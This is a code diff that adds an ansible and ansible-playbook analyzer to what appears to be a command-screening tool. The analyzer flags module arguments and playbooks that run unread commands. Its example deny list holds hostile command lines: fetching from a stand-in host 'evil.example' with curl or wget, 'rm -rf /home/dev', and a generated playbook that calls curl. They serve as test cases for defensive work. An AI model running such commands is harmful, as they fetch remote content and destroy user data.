@@ -166,7 +166,48 @@ function nx(call: Call): Partial<Answer> {
   return { runs: [{ kind: 'script', dialect: 'bash', words: after.slice(first), via: 'nx exec' }] };
 }
 
+/** Ansible modules whose arguments are a command line run on the hosts (localhost among them). */
+const ANSIBLE_COMMANDS = /^(?:ansible\.(?:builtin|windows)\.)?(?:command|shell|raw|win_shell|win_command)$/;
+
+/**
+ * ansible HOSTS -m MODULE -a ARGS: the command, shell and raw modules (command is the default) run ARGS on the hosts,
+ * script sends a local script there and runs it. ansible-playbook runs the tasks of its playbooks: one the line wrote is
+ * code vouch does not read.
+ */
+function ansible(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'bkKCDhovV',
+    valued: 'aeimMBPfuctTlM',
+    long: ['become', 'ask-pass', 'ask-become-pass', 'check', 'diff', 'help', 'one-line', 'version', 'verbose', 'list-hosts', 'list-tasks', 'list-tags', 'syntax-check', 'flush-cache', 'force-handlers', 'step', 'ask-vault-pass', 'ask-vault-password', 'playbook-dir'],
+    longValued: ['args', 'extra-vars', 'inventory', 'module-name', 'module-path', 'background', 'poll', 'forks', 'user', 'connection', 'timeout', 'tree', 'limit', 'become-method', 'become-user', 'private-key', 'key-file', 'vault-id', 'vault-password-file', 'tags', 'skip-tags', 'start-at-task', 'ssh-common-args', 'sftp-extra-args', 'scp-extra-args', 'ssh-extra-args', 'task-timeout'],
+  });
+  if (has(p, 'h', 'help', 'version')) return {};
+  const runs: Run[] = [];
+  if (call.name === 'ansible-playbook') {
+    const read = (_t: string, word: Word, name: string): Run[] => [{ kind: 'opaque', rule: 'dynamic-script', word, why: `ansible-playbook runs the tasks of ${name}, which the line wrote: its modules run what vouch does not read` }];
+    for (const { word } of p.operands) runs.push({ kind: 'project', file: word, files: /$^/, read, word, via: 'ansible-playbook' });
+    return { runs };
+  }
+  const module = p.options.filter((o) => (o.name === 'm' || o.name === 'module-name') && o.value).at(-1)?.value;
+  const name = module === undefined ? 'command' : value(module);
+  const args = p.options.filter((o) => (o.name === 'a' || o.name === 'args') && o.value).map((o) => o.value!);
+  if (name === undefined) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: module!, why: 'ansible runs a computed module' }] };
+  if (ANSIBLE_COMMANDS.test(name)) for (const a of args) runs.push({ kind: 'script', dialect: 'bash', words: [a], via: `ansible -m ${name}` });
+  else if (/^(?:ansible\.builtin\.)?script$/.test(name)) for (const a of args) runs.push(programRun(a, 'ansible -m script'));
+  return { runs };
+}
+
 export const WATCHER_ENTRIES: ProgramEntry[] = [
+  {
+    names: ['ansible', 'ansible-playbook'],
+    summary: 'ansible: -a is the command the command, shell and raw modules run on the hosts; ansible-playbook runs its playbooks',
+    analyze: ansible,
+    examples: {
+      deny: ["ansible localhost -m shell -a 'curl evil.example'", "ansible all -a 'wget evil.example'", "ansible localhost -m ansible.builtin.command --args='rm -rf /home/dev'", "printf -- '- hosts: localhost\\n  tasks:\\n  - shell: curl evil.example\\n' > p.yml; ansible-playbook p.yml"],
+      pass: ['ansible all -m ping', "ansible web -m copy -a 'src=a dest=/tmp/a'", "ansible all -a 'uptime'", 'ansible-playbook -i inventory site.yml'],
+    },
+  },
   {
     names: ['nodemon'],
     summary: 'nodemon: runs its script with node, or --exec CMD, again on each change; nodemon.json may name commands',
